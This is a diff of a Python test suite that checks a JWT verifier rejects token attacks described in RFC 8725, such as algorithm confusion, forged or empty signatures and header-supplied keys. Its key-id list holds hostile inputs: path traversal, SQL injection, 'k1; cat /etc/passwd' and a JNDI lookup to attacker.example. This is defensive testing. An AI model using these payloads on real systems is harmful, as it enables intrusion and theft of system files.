@@ -1,6 +1,8 @@
 """Attacks on login tokens, by the sections of RFC 8725 (JWT Best Current Practices) and RFC 7519 they are about.
 
-Every one of them is refused with the same `token_invalid`, whichever check it fails, and raises nothing else.
+Every one of them is refused with the same `token_invalid`, whichever check it fails, and raises nothing else. Attacks on what a
+verifier decides meet the application's own profile with each algorithm, and the token of each identity provider. Those on the
+format of a token meet one profile: a token is parsed before any issuer gets it.
 """
 
 from __future__ import annotations
@@ -9,16 +11,25 @@ import base64
 import hashlib
 import hmac
 import json
+import math
 import string
 import time
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
 from datetime import timedelta
 from typing import Any
 
 import jwt
 import pytest
-from cryptography.hazmat.primitives.serialization import Encoding
+from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
+from cryptography.hazmat.primitives.serialization import (
+    Encoding,
+    PublicFormat,
+    load_pem_private_key,
+)
 from hypothesis import given
 from hypothesis import strategies as st
+from jwt.algorithms import get_default_algorithms
 from tests.cases import case, refused_with
 from tests.core.support import (
     AUDIENCE,
@@ -34,9 +45,11 @@ from tests.core.support import (
     valid_claims,
     valid_header,
 )
-from tests.tokens.test_signing import ALGORITHMS, ASYMMETRIC, public_bytes
+from tests.tokens.provider import public_jwk
+from tests.tokens.shapes import EC_KEY, RSA_KEY, SHAPES, Shape
+from tests.tokens.test_signing import ALGORITHMS, public_bytes
 
-from msk_auth import Owner, SigningKey, TokenProfile, require_interactive
+from msk_auth import ExternalIdentity, Owner, SigningKey, TokenProfile, require_interactive
 from msk_auth.errors import CredentialRefused, InteractiveRequired
 from msk_auth.tokens import AlgorithmName
 from msk_auth.tokens.issuers import ExternalIssuer, PinnedKeySet, Provider
@@ -50,10 +63,15 @@ TOKENS = {
 }
 
 
-def assert_refused(text: str, verifier: TokenProfile | None = None) -> None:
+def assert_refused(
+    text: str, verifier: TokenProfile | Callable[[str], object] | None = None
+) -> None:
+    """Refused by a profile, or by what verifies a target's token."""
     with refused_with("token_invalid") as refused:
-        (verifier or profile()).verify(text, NOW)
-    assert refused.value.code == "token_invalid"
+        if verifier is None or isinstance(verifier, TokenProfile):
+            (verifier or profile()).verify(text, NOW)
+        else:
+            verifier(text)
     assert refused.value.detail == CredentialRefused("token_invalid").detail
     assert refused.value.key_id is None
 
@@ -66,45 +84,119 @@ def segment(members: object) -> str:
     return b64(json.dumps(members).encode())
 
 
-def test_the_unchanged_token_is_accepted() -> None:
-    assert accepts(token())
-    assert accepts(sign(valid_header(), valid_claims()))
-    for algorithm, text in TOKENS.items():
-        assert accepts(text, profile(signing_key(algorithm)))
+@dataclass(frozen=True)
+class Target:
+    """What verifies tokens, with a token that it accepts.
+
+    Attributes:
+        header: That of the token.
+        claims: Those of the token.
+        sign: Signs with the key of the token.
+        key: The private key behind it; None where the key is a secret.
+        verify: Raises where it does not accept a token.
+    """
+
+    header: Mapping[str, object]
+    claims: Mapping[str, object]
+    sign: Callable[[bytes], bytes]
+    key: Any
+    verify: Callable[[str], object]
+
+    def token(
+        self,
+        header: Mapping[str, object] | str | None = None,
+        claims: Mapping[str, object] | str | None = None,
+    ) -> str:
+        """The token with another header or other claims, as objects or as raw JSON; the signature is right."""
+        parts = (
+            self.header if header is None else header,
+            self.claims if claims is None else claims,
+        )
+        raw = (part if isinstance(part, str) else json.dumps(part) for part in parts)
+        message = ".".join(b64(part.encode("utf-8", "surrogatepass")) for part in raw)
+        return f"{message}.{b64(self.sign(message.encode()))}"
+
+    def refuses(self, text: str) -> None:
+        assert_refused(text, self.verify)
+
+
+def own(algorithm: AlgorithmName) -> Target:
+    key = signing_key(algorithm)
+    private = None if algorithm == "HS256" else load_pem_private_key(key.export(), None)
+    return Target(
+        valid_header(key),
+        valid_claims(),
+        key.sign,
+        private,
+        lambda text: profile(key).verify(text, NOW),
+    )
+
+
+def of_provider(shape: Shape) -> Target:
+    algorithm = str(shape.header["alg"])
+    key = EC_KEY if algorithm == "ES256" else RSA_KEY
+    scheme = get_default_algorithms()[algorithm]
+
+    def verify(text: str) -> None:
+        # Where the issuer cannot be read any more, the token is not taken for the issuer's: it ends in the same error.
+        if shape.issuer.authenticate(parsed(text), NOW) is None:
+            raise CredentialRefused("token_invalid")
+
+    return Target(
+        shape.header, shape.claims, lambda message: scheme.sign(message, key), key, verify
+    )
+
+
+TARGETS = {
+    **{f"own {algorithm}": own(algorithm) for algorithm in ALGORITHMS},
+    **{name: of_provider(shape) for name, shape in SHAPES.items()},
+}
+EACH_TARGET = pytest.mark.parametrize("target", TARGETS.values(), ids=TARGETS)
+ATTACKER = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+ATTACKERS: dict[str, Any] = {
+    "HS256": bytes(range(32)),
+    "RS256": ATTACKER,
+    "PS256": ATTACKER,
+    "ES256": ec.generate_private_key(ec.SECP256R1()),
+    "ES384": ec.generate_private_key(ec.SECP384R1()),
+    "EdDSA": ed25519.Ed25519PrivateKey.generate(),
+}
+
+
+@EACH_TARGET
+def test_the_unchanged_token_is_accepted(target: Target) -> None:
+    target.verify(target.token())
 
 
 # RFC 8725, section 3.1 and 3.2: the algorithm is the key's, not the token's.
 
 
 NO_ALGORITHM: list[object] = [
-    "none", "None", "NONE", "nOnE", "noNe", "none ", " none", "", None, False, 0, [], {}, ["HS256"],
+    "none", "None", "NONE", "nOnE", "noNe", "none ", " none", "", None, False, 0, [], {}, ["HS256"], ["RS256"],
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize("algorithm", ALGORITHMS)
-def test_no_algorithm_is_no_algorithm(algorithm: AlgorithmName) -> None:
-    key = signing_key(algorithm)
+@EACH_TARGET
+def test_no_algorithm_is_no_algorithm(target: Target) -> None:
     for alg in NO_ALGORITHM:
-        header = {"alg": alg, "kid": "k1", "typ": "at+jwt"}
-        message = f"{segment(header)}.{segment(valid_claims())}"
-        for signature in ("", "AA", "bm9uZQ"):
-            with case(alg, signature):
-                assert_refused(f"{message}.{signature}", profile(key))
+        header = {**target.header, "alg": alg}
         with case(alg):
-            assert_refused(sign(header, valid_claims(), key), profile(key))
+            for signature in ("", "AA", "bm9uZQ"):
+                target.refuses(f"{segment(header)}.{segment(target.claims)}.{signature}")
+            target.refuses(target.token(header))
 
 
-@pytest.mark.parametrize("algorithm", ALGORITHMS)
-def test_a_token_without_its_signature_is_refused(algorithm: AlgorithmName) -> None:
-    header, claims, _ = TOKENS[algorithm].split(".")
+@EACH_TARGET
+def test_a_token_without_its_signature_is_refused(target: Target) -> None:
+    header, claims, _ = target.token().split(".")
     for text in (f"{header}.{claims}.", f"{header}.{claims}", f"{header}..", f".{claims}.", ".."):
-        assert_refused(text, profile(signing_key(algorithm)))
+        target.refuses(text)
 
 
-def public_key_forms(key: SigningKey) -> list[bytes]:
-    pem, der = public_bytes(key), public_bytes(key, Encoding.DER)
-    jwk = key.jwk()
-    assert jwk is not None
+def public_key_forms(key: Any) -> list[bytes]:
+    public, jwk = key.public_key(), public_jwk(key)
+    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
+    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
     return [
         pem,
         pem.strip(),
@@ -113,53 +205,64 @@ def public_key_forms(key: SigningKey) -> list[bytes]:
         b"".join(pem.splitlines()[1:-1]),
         der,
         base64.b64encode(der),
-        public_bytes(key, Encoding.OpenSSH),
+        public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
         json.dumps(jwk).encode(),
         json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode(),
         *(str(value).encode() for value in jwk.values()),
+        hashlib.sha512(pem).digest(),
         b"",
     ]
 
 
-@pytest.mark.parametrize("algorithm", ASYMMETRIC)
-@pytest.mark.parametrize("claimed", ["HS256", "HS384", "HS512"])
-def test_the_public_key_is_no_hmac_secret_in_any_encoding(
-    algorithm: AlgorithmName, claimed: str
-) -> None:
+@EACH_TARGET
+def test_the_public_key_is_no_hmac_secret_in_any_encoding(target: Target) -> None:
     # RFC 8725, section 2.1.
-    key = signing_key(algorithm)
-    for header in (valid_header(key, alg=claimed), valid_header(key)):
-        message = f"{segment(header)}.{segment(valid_claims())}"
-        for secret in public_key_forms(key):
-            tag = hmac.digest(secret, message.encode(), "sha" + claimed[2:])
-            assert_refused(f"{message}.{b64(tag)}", profile(key))
+    secrets = [] if target.key is None else public_key_forms(target.key)
+    for claimed in ("HS256", "HS384", "HS512"):
+        for header in (target.header, {**target.header, "alg": claimed}):
+            message = f"{segment(header)}.{segment(target.claims)}"
+            for secret in secrets:
+                with case(claimed, header, secret):
+                    tag = hmac.digest(secret, message.encode(), "sha" + claimed[2:])
+                    target.refuses(f"{message}.{b64(tag)}")
 
 
-@pytest.mark.parametrize("configured", ALGORITHMS)
-@pytest.mark.parametrize("used", ALGORITHMS)
-def test_a_key_of_another_algorithm_under_the_same_id_is_refused(
-    configured: AlgorithmName, used: AlgorithmName
-) -> None:
-    verifier, attacker = profile(signing_key(configured)), signing_key(used, "k1")
-    if configured == used:
-        attacker = SigningKey.generate("k1", used) if used != "RS256" else signing_key(used, "k9")
-    for alg in (configured, used):
-        header = {"alg": alg, "kid": "k1", "typ": "at+jwt"}
-        assert_refused(sign(header, valid_claims(), attacker), verifier)
+@EACH_TARGET
+def test_a_foreign_key_under_the_same_id_is_refused(target: Target) -> None:
+    for algorithm, key in ATTACKERS.items():
+        scheme = get_default_algorithms()[algorithm]
+        for alg in (algorithm, target.header["alg"]):
+            jwk = {"kty": "oct", "k": b64(key)} if isinstance(key, bytes) else public_jwk(key)
+            for more in ({}, {"jwk": jwk}, {"jku": "https://attacker.example/keys"}):
+                header = {**target.header, "alg": alg, **more}
+                message = f"{segment(header)}.{segment(target.claims)}"
+                with case(algorithm, alg, more):
+                    target.refuses(f"{message}.{b64(scheme.sign(message.encode(), key))}")
 
 
-@pytest.mark.parametrize("alg", ["EdDSA", "Ed448", "ES384", "RS512", "PS256", "HS512", "hs256"])
-@pytest.mark.parametrize("algorithm", ALGORITHMS)
-def test_the_right_key_under_another_algorithms_name_is_refused(
-    algorithm: AlgorithmName, alg: str
-) -> None:
-    key = signing_key(algorithm)
-    text = sign(valid_header(key, alg=alg), valid_claims(), key)
-    if (algorithm, alg) == ("Ed25519", "EdDSA"):
-        # Two names of one algorithm (RFC 8037, RFC 9864).
-        assert accepts(text, profile(key))
-    else:
-        assert_refused(text, profile(key))
+@EACH_TARGET
+def test_the_right_key_under_another_algorithms_name_is_refused(target: Target) -> None:
+    # The signed header names it, and the signature is of another algorithm.
+    for alg in (
+        "RS384",
+        "PS256",
+        "PS512",
+        "ES384",
+        "HS512",
+        "Ed448",
+        "rs256",
+        "es256",
+        "hs256",
+        "RSA",
+    ):
+        with case(alg):
+            target.refuses(target.token({**target.header, "alg": alg}))
+
+
+def test_both_names_of_one_algorithm_are_accepted() -> None:
+    # RFC 8037, RFC 9864.
+    target = TARGETS["own Ed25519"]
+    target.verify(target.token({**target.header, "alg": "EdDSA"}))
 
 
 def test_each_key_of_a_ring_keeps_to_its_own_algorithm() -> None:
@@ -170,116 +273,100 @@ def test_each_key_of_a_ring_keeps_to_its_own_algorithm() -> None:
     assert_refused(sign(valid_header(es, kid="hs"), valid_claims(), es), ring)
 
 
-def test_trivial_ecdsa_signatures_are_refused() -> None:
+@pytest.mark.parametrize("name", ["own ES256", "Supabase"])
+def test_trivial_ecdsa_signatures_are_refused(name: str) -> None:
     # CVE-2022-21449: r = s = 0 and its relatives.
-    key = signing_key("ES256")
-    message = TOKENS["ES256"].rpartition(".")[0]
+    message = TARGETS[name].token().rpartition(".")[0]
     n = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
     for r, s in ((0, 0), (1, 0), (0, 1), (1, 1), (n, n), (n, 0), (n - 1, n - 1)):
         raw = r.to_bytes(32, "big") + s.to_bytes(32, "big")
-        assert_refused(f"{message}.{b64(raw)}", profile(key))
+        TARGETS[name].refuses(f"{message}.{b64(raw)}")
 
 
-# RFC 8725, sections 3.8 to 3.10: keys come from the ring, never from the token.
+# RFC 8725, sections 3.8 to 3.10: keys come from the ring or the set, never from the token.
 
 
-@pytest.mark.parametrize(
-    "member",
-    [
-        {"jwk": {"kty": "oct", "k": "AA"}},
-        {"jku": "https://attacker.example/keys"},
-        {"x5u": "https://attacker.example/cert"},
-        {"x5c": ["AAAA"]},
-        {"x5t": "AAAA"},
-        {"crit": []},
-        {"crit": ["exp"]},
-        {"b64": True},
-        {"b64": False, "crit": ["b64"]},
-        {"zip": "DEF"},
-        {"enc": "A128GCM"},
-        {"cty": "JWT"},
-        {"iss": ISSUER},
-        {"": ""},
-    ],
-    ids=repr,
-)
-def test_a_header_with_any_other_member_is_refused_although_the_signature_is_right(
-    member: dict[str, object],
+READ_OTHERWISE: list[dict[str, object]] = [
+    {"crit": []}, {"crit": ["exp"]}, {"crit": None}, {"b64": True}, {"b64": False, "crit": ["b64"]},
+    {"zip": "DEF"}, {"enc": "A128GCM"},
+]  # fmt: skip
+
+
+@EACH_TARGET
+def test_a_header_that_changes_how_the_token_is_read_is_refused(target: Target) -> None:
+    for member in READ_OTHERWISE:
+        with case(member):
+            target.refuses(target.token({**target.header, **member}))
+
+
+OTHER_MEMBERS: list[dict[str, object]] = [
+    {"jwk": {"kty": "oct", "k": "AA"}}, {"jku": "https://attacker.example/keys"},
+    {"x5u": "https://attacker.example/cert"}, {"x5c": ["AAAA"]}, {"x5t": "AAAA"}, {"cty": "JWT"}, {"iss": ISSUER},
+    {"": ""},
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("algorithm", ALGORITHMS)
+def test_the_applications_tokens_have_no_other_member_in_their_header(
+    algorithm: AlgorithmName,
 ) -> None:
-    assert_refused(sign(valid_header(**member), valid_claims()))
+    target = TARGETS[f"own {algorithm}"]
+    for member in [*OTHER_MEMBERS, {"jwk": signing_key(algorithm).jwk()}]:
+        with case(member):
+            target.refuses(target.token({**target.header, **member}))
+    for missing in target.header:
+        with case(missing):
+            others = {name: value for name, value in target.header.items() if name != missing}
+            target.refuses(target.token(others))
 
 
-@pytest.mark.parametrize("algorithm", ASYMMETRIC)
-def test_a_key_that_the_token_brings_along_is_not_used(algorithm: AlgorithmName) -> None:
-    attacker = signing_key(algorithm, "attacker")
-    for header in (
-        valid_header(attacker, jwk=attacker.jwk()),
-        valid_header(attacker, kid="k1", jwk=attacker.jwk()),
-        valid_header(attacker),
-    ):
-        assert_refused(sign(header, valid_claims(), attacker), profile(signing_key(algorithm)))
+@pytest.mark.parametrize("name", SHAPES)
+def test_header_members_that_are_not_critical_are_ignored(name: str) -> None:
+    # RFC 7515, section 4. None of them is a key that is used: see the foreign key above.
+    members = {"x5t": "AA", "jku": "https://attacker.example/keys", "cat": "cl_B7", "": ""}
+    TARGETS[name].verify(TARGETS[name].token({**SHAPES[name].header, **members}))
 
 
-@pytest.mark.parametrize(
-    "kid",
-    [
-        "",
-        "k1 ",
-        "K1",
-        "k1\x00",
-        "k1\n",
-        "k2",
-        "../../../../dev/null",
-        "/dev/null",
-        "file:///etc/passwd",
-        "https://attacker.example/k1",
-        "k1' OR '1'='1",
-        "x' UNION SELECT 'secret' --",
-        "k1; cat /etc/passwd",
-        "${jndi:ldap://attacker.example}",
-        "%00",
-        "\x00",
-        "\u0000k1",
-        "\ud800",
-        "ｋ1",
-        "k" * 5000,
-        None,
-        0,
-        1,
-        1.5,
-        True,
-        [],
-        ["k1"],
-        {"k1": "k1"},
-    ],
-    ids=range(28),
-)
-def test_a_hostile_key_id_finds_nothing(kid: object) -> None:
-    header = {"alg": "HS256", "kid": kid, "typ": "at+jwt"}
-    assert_refused(sign(header, valid_claims()))
-    # Signed as if the id had found an empty file.
-    message = f"{segment(header)}.{segment(valid_claims())}"
-    assert_refused(f"{message}.{b64(hmac.digest(bytes(32), message.encode(), 'sha256'))}")
+KIDS: list[object] = [
+    "", "k1 ", "K1", "k1\x00", "k1\n", "k2", "../../../../dev/null", "/dev/null", "file:///etc/passwd",
+    "https://attacker.example/k1", "k1' OR '1'='1", "x' UNION SELECT 'secret' --", "k1; cat /etc/passwd",
+    "${jndi:ldap://attacker.example}", "%00", "\x00", "\u0000k1", "\ud800", "ｋ1", "k" * 5000, None, 0, 1, 1.5, True,
+    [], ["k1"], {"k1": "k1"},
+]  # fmt: skip
 
 
-@pytest.mark.parametrize("missing", ["alg", "kid", "typ"])
-def test_a_header_without_one_of_its_members_is_refused(missing: str) -> None:
-    assert_refused(sign(valid_header(**{missing: None}), valid_claims()))
+@EACH_TARGET
+def test_a_hostile_key_id_finds_nothing(target: Target) -> None:
+    for kid in KIDS:
+        header = {**target.header, "kid": kid}
+        message = f"{segment(header)}.{segment(target.claims)}"
+        with case(kid):
+            target.refuses(target.token(header))
+            # Signed as if the id had found an empty file.
+            target.refuses(f"{message}.{b64(hmac.digest(bytes(32), message.encode(), 'sha256'))}")
+    others = {name: value for name, value in target.header.items() if name != "kid"}
+    target.refuses(target.token(others))
 
 
 # RFC 8725, section 3.11; RFC 9068, section 4: explicit typing.
 
 
-@pytest.mark.parametrize(
-    "typ",
-    [
-        "JWT", "jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "at+jwt ", " at+jwt", "at jwt", "",
-        "dpop+jwt", "logout+jwt", "id+jwt", None, 1, True, ["at+jwt"], {"at+jwt": 1},
-    ],
-    ids=repr,
-)  # fmt: skip
-def test_every_other_type_is_refused(typ: object) -> None:
-    assert_refused(sign({**valid_header(), "typ": typ}, valid_claims()))
+OTHER_TYPES: list[object] = [
+    "at+jwt ", " at+jwt", "at jwt", "", "JWT ", "dpop+jwt", "logout+jwt", "id+jwt", "JOSE", "SAML", None, 1, True,
+    ["at+jwt"], ["JWT"], {"JWT": 1},
+]  # fmt: skip
+
+
+@EACH_TARGET
+def test_every_other_type_is_refused(target: Target) -> None:
+    for typ in OTHER_TYPES:
+        with case(typ):
+            target.refuses(target.token({**target.header, "typ": typ}))
+
+
+@pytest.mark.parametrize("typ", ["JWT", "jwt", "AT+JWT", "At+Jwt", "application/at+jwt"])
+def test_the_type_of_the_applications_tokens_has_one_spelling(typ: str) -> None:
+    assert_refused(sign(valid_header(typ=typ), valid_claims()))
 
 
 def test_a_token_as_a_library_makes_it_by_default_is_refused() -> None:
@@ -379,6 +466,34 @@ def test_an_odd_issuer_or_audience_is_refused(name: str) -> None:
     for value in ODD:
         with case(value):
             assert_refused(sign(valid_header(), {**valid_claims(), name: value}))
+
+
+# Providers may write moments as fractions, and other values of these that are old or far away.
+ODD_FOR_PROVIDERS = [
+    None,
+    True,
+    -1,
+    1e300,
+    10**400,
+    math.inf,
+    "",
+    "ann\x00",
+    "a" * 256,
+    [],
+    [None],
+    {},
+]
+
+
+@pytest.mark.parametrize("name", SHAPES)
+def test_odd_values_of_a_providers_claims_are_refused(name: str) -> None:
+    shape, target = SHAPES[name], TARGETS[name]
+    # The subject of Okta's access tokens is `uid`.
+    subject = "uid" if name == "Okta, access" else "sub"
+    for claim in ("iss", subject, "iat", "exp", shape.audience):
+        for value in ODD_FOR_PROVIDERS:
+            with case(claim, value):
+                target.refuses(target.token(claims={**shape.claims, claim: value}))
 
 
 @pytest.mark.parametrize("missing", ["iss", "aud", "sub", "iat", "exp", "jti", "auth_time"])
@@ -628,10 +743,23 @@ def test_any_json_in_a_claim_is_refused_or_taken_literally(name: str, value: obj
     assert verified.authenticated_at <= NOW < verified.expires_at
 
 
-def test_the_public_key_digest_is_not_a_way_in_either() -> None:
-    key = signing_key("ES256")
-    message = f"{segment(valid_header(key))}.{segment(valid_claims())}"
-    assert_refused(f"{message}.{b64(hashlib.sha512(public_bytes(key)).digest())}", profile(key))
+@given(st.sampled_from(list(SHAPES)), st.data(), json_values)
+def test_any_json_in_a_providers_claim_is_refused_or_taken_literally(
+    name: str, data: st.DataObject, value: object
+) -> None:
+    shape = SHAPES[name]
+    claim = data.draw(st.sampled_from(list(shape.claims)))
+    text = TARGETS[name].token(claims={**shape.claims, claim: value})
+    try:
+        verified = shape.issuer.authenticate(parsed(text), NOW)
+    except CredentialRefused:
+        return
+    if verified is None:
+        assert claim == "iss"
+        return
+    assert isinstance(verified.subject, ExternalIdentity)
+    assert verified.subject.issuer in shape.issuer.names
+    assert NOW.timestamp() < verified.expires_at.timestamp()
 
 
 # A machine's token where a person is demanded (RFC 8725, section 3.12: kinds of JWT must not be interchangeable).
